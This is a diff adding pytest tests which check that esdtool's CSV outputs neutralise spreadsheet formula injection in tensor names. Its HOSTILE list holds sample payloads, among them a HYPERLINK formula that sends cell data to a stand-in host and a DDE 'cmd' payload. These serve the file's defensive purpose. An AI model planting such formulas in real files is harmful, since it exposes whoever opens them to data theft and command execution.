@@ -1,0 +1,81 @@
+"""Spreadsheet formula injection (issue 29, item 4): tensor names are written by strangers, and
+a CSV cell starting with =, +, -, @, tab or carriage return runs as a formula when the file is
+opened in a spreadsheet. Every CSV esdtool writes (allocation.csv, comparison.csv, ablate's
+runs.csv and summary.csv) prefixes such a cell with ', and esdtool reading its own CSV back
+gets the exact name; parquet, JSON and the PEFT config keep the names as they are."""
+
+from __future__ import annotations
+
+import csv
+import json
+
+import numpy as np
+
+from helpers import run_cli, write_tensors
+
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?leak="&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'quoted",
+]
+
+
+def _checkpoint(path, scale: float = 1.0):
+    """One block of linear layers named by hostile text (each a module of layer 0)."""
+    rng = np.random.default_rng(0)
+    tensors = {
+        f"{text}.layers.0.proj{i}.weight": (rng.standard_normal((48, 32)) * scale).astype(
+            np.float32
+        )
+        for i, text in enumerate(HOSTILE)
+    }
+    return write_tensors(path, tensors)
+
+
+def test_allocation_csv_cells_cannot_run_and_read_back_exactly(tmp_path, capsys):
+    source = _checkpoint(tmp_path / "model.safetensors")
+    table, plan = tmp_path / "m.parquet", tmp_path / "plan"
+    assert run_cli(["analyze", source, "-o", table, "-q"], capsys)[0] == 0
+    code, _, stderr = run_cli(["allocate", table, "-o", plan, "--top-n-percentile", "1"], capsys)
+    assert code == 0, stderr
+    with open(plan / "allocation.csv", newline="") as f:
+        modules = [row["module"] for row in csv.DictReader(f)]
+    expected = sorted(f"{t}.layers.0.proj{i}" for i, t in enumerate(HOSTILE))
+    assert sorted(m[1:] for m in modules) == expected  # each cell: ' then the exact name
+    assert all(m.startswith("'") for m in modules)
+    config = json.loads((plan / "adapter_config.json").read_text())
+    from esdtool.adapters.config import key_matches
+
+    for module in expected:  # the config keeps exact names: each reached by one key
+        assert sum(key_matches(k, module) for k in config["rank_pattern"]) == 1, module
+    from esdtool.plan.verify import read_plan
+
+    _, allocation = read_plan(plan)
+    assert sorted(allocation.module) == expected  # esdtool reads its own CSV back exactly
+
+
+def test_comparison_csv_cells_cannot_run(tmp_path, capsys):
+    a = _checkpoint(tmp_path / "a.safetensors")
+    b = _checkpoint(tmp_path / "b.safetensors", scale=2.0)
+    for path in (a, b):
+        assert run_cli(["analyze", path, "-o", path.with_suffix(".parquet"), "-q"], capsys)[0] == 0
+    code, _, stderr = run_cli(["compare", a.with_suffix(".parquet"), b.with_suffix(".parquet"),
+                               "-o", tmp_path / "c"], capsys)  # fmt: skip
+    assert code == 0, stderr
+    with open(tmp_path / "c" / "comparison.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == len(HOSTILE)
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or _number(value), value
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
